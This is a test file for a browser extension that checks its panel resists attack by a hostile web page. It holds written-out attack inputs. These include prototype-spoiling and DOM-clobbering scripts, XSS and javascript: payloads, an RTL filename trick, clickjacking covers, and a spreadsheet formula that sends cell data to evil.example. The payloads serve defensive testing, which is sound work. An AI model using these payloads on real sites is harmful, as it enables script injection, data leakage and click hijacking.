import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Target } from '../browsers/cdp.ts';
import { newProfile } from '../browsers/chromium.ts';
import { spawnChromium, type RawChromium } from '../browsers/raw-chromium.ts';
import { buildForStore } from '../tools/build.ts';
import { eventually, kept, look, namesIn, openInside, untilCalm, type Inside } from './inside.ts';
import { serveCrowdedLists } from './crowded-lists.ts';
import { servePaperCrm, type PaperCrm } from './paper-crm.ts';

/** What the page's own script does before anything else of the page runs: everything a page can spoil, spoilt. */
const spoil = `
window.caught = [];
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) { const root = attach.call(this, init); window.caught.push(this.localName); return root; };
JSON.stringify = () => '{"spoilt":true}';
window.MutationObserver = class { observe() {} disconnect() {} takeRecords() { return []; } };
Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, value: () => 'spoilt' });
Object.defineProperty(Object.prototype, 'strong', { configurable: true, value: 'spoilt' });
Document.prototype.querySelectorAll = () => { throw new Error('spoilt'); };
Element.prototype.matches = () => true;
Object.defineProperty(Node.prototype, 'textContent', { ...Object.getOwnPropertyDescriptor(Node.prototype, 'textContent'), get: () => 'spoilt' });
window.chrome = { runtime: { id: 'spoilt', sendMessage: () => Promise.resolve({ refused: true }) } };
`;

/** Fields that answer to the names of a form's own properties, around the whole board. */
const clobber = `{
  const form = document.createElement('form');
  for (const name of ['attributes', 'children', 'childNodes', 'parentElement', 'querySelectorAll', 'matches', 'textContent', 'localName', 'isConnected']) {
    const input = document.createElement('input');
    input.name = name;
    form.append(input);
  }
  const image = document.createElement('img');
  image.name = 'querySelector';
  const main = document.getElementById('main-content');
  main.before(form);
  form.append(image, main);
}`;

const hostileNames: Record<string, string> = {
  '1': '<img src=x onerror="window.pwned=1">',
  '2': '"><script>window.pwned=1</script>',
  '3': 'javascript:window.pwned=1',
  '4': 'Deal \u202Egnp.exe\u202C',
  '5': '=HYPERLINK("https://evil.example/?"&A1)',
  '6': '__proto__',
  '7': 'lone \uD800 half',
};

let crm: PaperCrm;
let profile: string;
let browser: RawChromium;
let inside: Target;
/** Holds the extension as a store gives it, but for the paper CRM being granted, and the browser's record of all traffic. */
let folder: string;
const extension = () => join(folder, 'extension');
const netLog = () => join(folder, 'net.json');

beforeAll(async () => {
  crm = await servePaperCrm();
  folder = mkdtempSync(join(tmpdir(), 'chakuchi-hostile-'));
  cpSync(await buildForStore('chrome'), extension(), { recursive: true });
  const path = join(extension(), 'manifest.json');
  const manifest = JSON.parse(readFileSync(path, 'utf8')) as object;
  writeFileSync(path, JSON.stringify({ ...manifest, host_permissions: ['http://127.0.0.1/*'] }));
});

afterAll(async () => {
  await crm.close();
  rmSync(folder, { recursive: true, force: true });
});

beforeEach(async () => {
  profile = newProfile();
  browser = await spawnChromium(extension(), profile, [
    '--lang=en',
    '--accept-lang=en-US',
    `--log-net-log=${netLog()}`,
  ]);
  // What was just installed opens its set-up page, in front of whatever is open then: a page that nobody sees is not drawn.
  const setUp = await eventually(
    'the set-up page',
    async () => (await browser.cdp.targets()).find(({ url }) => url.startsWith(browser.own('onboarding.html'))),
    (target) => target !== undefined,
  );
  await browser.cdp.send('Target.closeTarget', { targetId: setUp?.targetId });
  inside = await openInside(browser);
});

afterEach(async () => {
  await browser.close();
  rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
});

const isTwentyDeals = ({ deals }: Inside) => deals === 20;

const openSpoilt = async (url: string): Promise<Target> => {
  const page = await browser.open(`${crm.origin}/elsewhere`);
  await page.send('Page.enable');
  await page.send('Page.addScriptToEvaluateOnNewDocument', { source: spoil });
  await page.send('Page.navigate', { url });
  await eventually(
    'the page',
    () => page.evaluate<boolean>('Array.isArray(window.caught) && document.readyState === "complete"'),
    (isThere) => isThere,
  );
  return page;
};
const rename = (page: Target, id: string, name: string) =>
  page.evaluate(`edit(${JSON.stringify(id)}, { name: ${JSON.stringify(name)} })`);

type Node = {
  nodeId: number;
  nodeName: string;
  nodeValue: string;
  attributes?: string[];
  children?: Node[];
  shadowRoots?: Node[];
};

/** The middle of a button in our closed root, by its label or its text; a debugger sees what the page does not. */
const placeInPanel = async (page: Target, label: string): Promise<{ x: number; y: number } | undefined> => {
  const { root } = await page.send<{ root: Node }>('DOM.getDocument', { depth: -1, pierce: true });
  const all = (node: Node): Node[] => [node, ...[...(node.shadowRoots ?? []), ...(node.children ?? [])].flatMap(all)];
  const button = all(root).find(
    (node) =>
      node.nodeName === 'BUTTON' &&
      (node.attributes?.includes(label) || all(node).some(({ nodeValue }) => nodeValue === label)),
  );
  if (!button) return undefined;
  const { model } = await page.send<{ model: { content: number[] } }>('DOM.getBoxModel', { nodeId: button.nodeId });
  const [left = 0, top = 0, , , right = 0, bottom = 0] = model.content;
  return { x: (left + right) / 2, y: (top + bottom) / 2 };
};

describe('a page that means harm', () => {
  it('spoils its own world only: what it shows is read as it is shown', async () => {
    const page = await openSpoilt(crm.board);
    await page.evaluate(clobber);
    await eventually('the first look', () => look(inside), isTwentyDeals);
    // The page's own script no longer finds anything in itself.
    await page.evaluate(`for (const word of document.getElementsByTagName('p'))
      if (word.firstChild.data === 'Deal 3') word.firstChild.data = 'Deal 3, out of a clobbered form'`);
    const told = await eventually(
      'the change',
      () => look(inside),
      (now) => namesIn(now)['3'] === 'Deal 3, out of a clobbered form',
    );
    expect(Object.values(namesIn(told)).filter((name) => String(name).includes('spoilt'))).toEqual([]);
    expect(told.quarantined).toBe(0);
  });

  it('finds no word of the panel, no way into it, and no click of its own does anything there', async () => {
    await inside.evaluate(
      `chrome.runtime.sendMessage({ name: 'save-settings', input: { changes: { sites: { ${JSON.stringify(crm.origin)}: { paused: false, panel: { open: true, side: 'right' } } } } } })`,
    );
    const page = await openSpoilt(crm.record('7'));
    await eventually(
      'the open panel',
      () =>
        page.evaluate<boolean>(`(() => {
          const [host] = document.getElementsByTagName('chakuchi-panel');
          return host !== undefined && document.elementFromPoint(innerWidth - 150, 300) === host;
        })()`),
      (isOpen) => isOpen,
    );
    await eventually('the first look', () => look(inside), isTwentyDeals);
    const before = (await untilCalm(inside)).readings.length;
    const found = await page.evaluate<Record<string, unknown>>(`(() => {
      const host = document.getElementsByTagName('chakuchi-panel')[0];
      const box = host.getBoundingClientRect();
      for (let x = 4; x < innerWidth; x += 24) for (let y = 4; y < innerHeight; y += 24) {
        const hit = document.elementFromPoint(x, y);
        if (hit === host) for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
          host.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: x, clientY: y }));
      }
      for (const key of ['Enter', ' ', 'Escape']) host.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
      return {
        root: host.shadowRoot,
        hooked: window.caught.includes('chakuchi-panel'),
        inner: host.innerHTML,
        text: host.innerText,
        selected: (getSelection().selectAllChildren(host), String(getSelection())),
        // The panel writes the board's $16.5K out; the page's own words are found, so that the search is known to work.
        figure: ['16,500', '\u224816,500', '$16,500'].some((text) => window.find(text, false, false, true)),
        word: window.find('$16.5K', false, false, true),
        speaks: typeof window.browser,
      };
    })()`);
    expect(found).toEqual({
      root: null,
      hooked: false,
      inner: '',
      text: '',
      selected: '',
      figure: false,
      word: true,
      speaks: 'undefined',
    });
    await pause(500);
    expect((await look(inside)).readings.length).toBe(before);
  });

  it('learns nothing of the chips on its rows: not by search, by hitting, by covering, nor by their being there', async () => {
    const lists = await serveCrowdedLists();
    try {
      // A list of which no deal deserves a chip has the layer as well.
      const calm = await browser.open(lists.url('list', 'rows=2'));
      const hosts = (page: Target) => page.evaluate<number>('document.getElementsByTagName("chakuchi-chips").length');
      await eventually(
        'the layer over a calm list',
        () => hosts(calm),
        (count) => count === 1,
      );
      const page = await browser.open(lists.url('list'));
      const drawn = async () => JSON.stringify(await page.send('DOM.getDocument', { depth: -1, pierce: true }));
      await eventually('the chips', drawn, (told) => told.includes('At risk'));
      await pause(500);
      const found = await page.evaluate<Record<string, unknown>>(`(async () => {
        const host = document.getElementsByTagName('chakuchi-chips')[0];
        let hit = 0;
        for (let x = 4; x < innerWidth; x += 12) for (let y = 4; y < innerHeight; y += 6)
          if (document.elementsFromPoint(x, y).includes(host)) hit += 1;
        const rows = [...document.querySelectorAll('[data-id]')].slice(0, 10);
        // What of a row is covered by something, as browsers tell pages that fear to be clicked through.
        const covered = await new Promise((resolve) => {
          const observer = new IntersectionObserver((entries) => resolve(entries.map(({ isVisible }) => isVisible)), {
            trackVisibility: true,
            delay: 100,
          });
          for (const row of rows) observer.observe(row);
        });
        const box = host.getBoundingClientRect();
        return {
          root: host.shadowRoot,
          text: host.innerText + host.innerHTML,
          size: [box.width, box.height],
          hit,
          kinds: new Set(covered).size,
          rows: covered.length,
          told: ['At risk', 'planned day', 'Pushed'].filter((text) => window.find(text, false, false, true)),
          word: window.find('Company 3', false, false, true),
        };
      })()`);
      expect(found).toEqual({
        root: null,
        text: '',
        size: [0, 0],
        hit: 0,
        kinds: 1,
        rows: 10,
        told: [],
        word: true,
      });
    } finally {
      await lists.close();
    }
  });

  it('lures no click into the panel: not under a cover, not through a faded page, not by moving it, not in the last moment', async () => {
    await inside.evaluate(
      `chrome.runtime.sendMessage({ name: 'save-settings', input: { changes: { sites: { ${JSON.stringify(crm.origin)}: { paused: false, panel: { open: true, side: 'right' } } } } } })`,
    );
    const page = await browser.open(crm.record('7'));
    const button = await eventually(
      'the log button',
      () => placeInPanel(page, 'Call: log one'),
      (place) => place !== undefined,
    );
    const { x = 0, y = 0 } = button ?? {};
    const mouse = (type: string, at = { x, y }) =>
      page.send('Input.dispatchMouseEvent', { type, ...at, button: 'left', clickCount: 1 });
    const click = async (at = { x, y }) => {
      for (const type of ['mouseMoved', 'mousePressed', 'mouseReleased']) await mouse(type, at);
    };
    const logs = async () =>
      (await look(inside)).readings.filter(({ reading }) => reading.rows.some(({ entity }) => entity === 'activity'))
        .length;
    const answered = (word: RegExp, at = { x, y }) =>
      eventually(
        `“${word.source}”`,
        async () => {
          const told = JSON.stringify(await page.send('DOM.getDocument', { depth: -1, pierce: true }));
          if (word.test(told)) return true;
          await click(at);
          return false;
        },
        (isSaid) => isSaid,
      );
    await page.evaluate(`{
      const cover = document.createElement('div');
      cover.style.cssText = 'position: fixed; inset: 0; z-index: 2147483647; background: white; pointer-events: none';
      cover.textContent = 'You have won. Click here.';
      window.cover = cover;
    }`);
    for (const [trick, done, undone] of [
      ['a cover that lets clicks through', 'document.body.append(cover)', 'cover.remove()'],
      [
        'a cover taken away at the press',
        'document.body.append(cover), addEventListener("pointerdown", () => cover.remove(), { capture: true, once: true })',
        'cover.remove()',
      ],
      [
        'a page faded out',
        'document.documentElement.style.opacity = "0.01"',
        'document.documentElement.style.opacity = ""',
      ],
      [
        'a page faded by a filter',
        'document.documentElement.style.filter = "opacity(0.01)"',
        'document.documentElement.style.filter = ""',
      ],
    ] as const) {
      await page.evaluate(`void (${done})`);
      await pause(1_000);
      await click();
      await pause(300);
      expect([trick, await logs()]).toEqual([trick, 0]);
      await page.evaluate(`void (${undone})`);
    }
    // The panel stands elsewhere until the pointer is where it will be.
    await page.evaluate(`document.documentElement.style.transform = 'translate(-300px, 0)'`);
    await pause(1_000);
    await mouse('mouseMoved');
    await page.evaluate(`document.documentElement.style.transform = ''`);
    await mouse('mousePressed');
    await mouse('mouseReleased');
    await pause(300);
    expect(['a panel moved under the pointer', await logs()]).toEqual(['a panel moved under the pointer', 0]);
    // What was refused is said; what stands there for all to see is done.
    await answered(/covered or moved/);
    await pause(1_000);
    await answered(/Call logged/);
    expect(await logs()).toBe(1);
    const undo = await placeInPanel(page, 'Undo');
    await pause(1_000);
    await answered(/Undone/, undo);
    expect(await logs()).toBe(2);
  });

  it('that throws the panel out again and again is not fought with', async () => {
    const page = await browser.open(crm.record('7'));
    const panels = () => page.evaluate<number>('document.querySelectorAll("chakuchi-panel").length');
    await eventually('the panel', panels, (count) => count === 1);
    const rounds = await page.evaluate<number>(`new Promise((resolve) => {
      let thrown = 0;
      const watch = new MutationObserver(() => {
        for (const panel of document.querySelectorAll('chakuchi-panel')) { panel.remove(); thrown += 1; }
      });
      watch.observe(document, { childList: true, subtree: true });
      document.querySelector('chakuchi-panel').remove();
      setTimeout(() => { watch.disconnect(); resolve(thrown); }, 4000);
    })`);
    expect(rounds).toBeLessThan(20);
    await rename(page, '8', 'Deal 8, read all the same');
    await eventually(
      'the change',
      () => look(inside),
      (told) => namesIn(told)['8'] === 'Deal 8, read all the same',
    );
  });

  it('has deals whose names are shown as text, wherever they are shown', async () => {
    const page = await browser.open(crm.board);
    await eventually('the first look', () => look(inside), isTwentyDeals);
    for (const [id, name] of Object.entries(hostileNames)) await rename(page, id, name);
    await rename(page, '9', `Deal 9 ${'long '.repeat(200_000)}`);
    await eventually(
      'the names',
      () => look(inside),
      (told) => namesIn(told)['6'] === hostileNames['6'] && namesIn(told)['1'] === hostileNames['1'],
    );
    const told = await look(inside);
    expect(told.deals).toBe(20);
    expect(Math.max(...Object.values(namesIn(told)).map((name) => String(name).length))).toBeLessThan(10_000);
    for (const own of ['popup.html', 'options.html#me', 'options.html#mapping', 'options.html#data']) {
      const surface = await browser.open(browser.own(own));
      await pause(1_000);
      expect(
        await surface.evaluate(
          '[typeof window.pwned, document.querySelectorAll("img[src=x], a[href^=javascript]").length]',
        ),
      ).toEqual(['undefined', 0]);
      await surface.close();
    }
    expect(await page.evaluate('typeof window.pwned')).toBe('undefined');
  });

  it('reaches no page and no message of the extension', async () => {
    const page = await browser.open(crm.board);
    await eventually('the first look', () => look(inside), isTwentyDeals);
    const before = (await untilCalm(inside)).readings.length;
    const told = await page.evaluate<unknown>(`(async () => {
      const own = ${JSON.stringify(browser.own(''))};
      const fetched = [];
      for (const file of ['popup.html', 'manifest.json', 'content-scripts/crm.js', 'background.js'])
        fetched.push(await fetch(own + file).then(() => file, () => undefined));
      const frame = document.createElement('iframe');
      frame.src = own + 'popup.html';
      document.body.append(frame);
      await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 2000); });
      let isOpen = false;
      try { isOpen = Boolean(frame.contentDocument?.querySelector('main, #app')); } catch {}
      const said = [{ name: 'reading', input: {} }, { name: 'erase', input: {} }];
      for (const message of said) {
        postMessage(message, '*');
        document.dispatchEvent(new CustomEvent('message', { detail: message }));
      }
      return { fetched: fetched.filter(Boolean), isOpen, runtime: typeof window.chrome?.runtime };
    })()`);
    expect(told).toEqual({ fetched: [], isOpen: false, runtime: 'undefined' });
    await pause(500);
    const after = await look(inside);
    expect([after.deals, after.readings.length]).toEqual([20, before]);
  });
});

type NetLog = {
  constants: { logEventTypes: Record<string, number> };
  events: { type: number; params?: { url?: string; initiator?: string } }[];
};

describe('the network', () => {
  it('a day with the extension asks for nothing that the page did not ask for', async () => {
    const page = await browser.open(crm.record('7'));
    await eventually('the first look', () => look(inside), isTwentyDeals);
    await rename(page, '8', 'Deal 8, a working day');
    for (const own of ['popup.html', 'options.html']) {
      const surface = await browser.open(browser.own(own));
      await pause(1_500);
      await surface.close();
    }
    await inside.evaluate(`chrome.runtime.sendMessage({ name: 'log', input: { id: 'one-call', kind: 'call' } })`);
    expect(await kept(inside, 'trouble')).toBeUndefined();
    await browser.close();
    const { constants, events } = JSON.parse(readFileSync(netLog(), 'utf8')) as NetLog;
    const begun = constants.logEventTypes['URL_REQUEST_START_JOB'];
    const asked = events
      .filter(({ type, params }) => type === begun && /^(https?|wss?):/.test(params?.url ?? ''))
      .map(({ params }) => ({ url: new URL(params?.url ?? ''), initiator: params?.initiator ?? '' }));
    const ofThePage = asked.filter(({ url }) => url.origin === crm.origin);
    const [first, ...others] = ofThePage.map(({ url }) => url.pathname);
    expect(first).toBe('/');
    expect(others.filter((path) => !['/app.js', '/told', '/favicon.ico'].includes(path))).toEqual([]);
    // What is left the browser asked of its maker, for itself.
    const elsewhere = asked.filter(({ url }) => url.origin !== crm.origin);
    expect(elsewhere.filter(({ initiator }) => initiator !== 'not an origin')).toEqual([]);
    expect(elsewhere.filter(({ url }) => !/\.(google|googleapis|gstatic)\.com$/.test(url.hostname))).toEqual([]);
  });
});
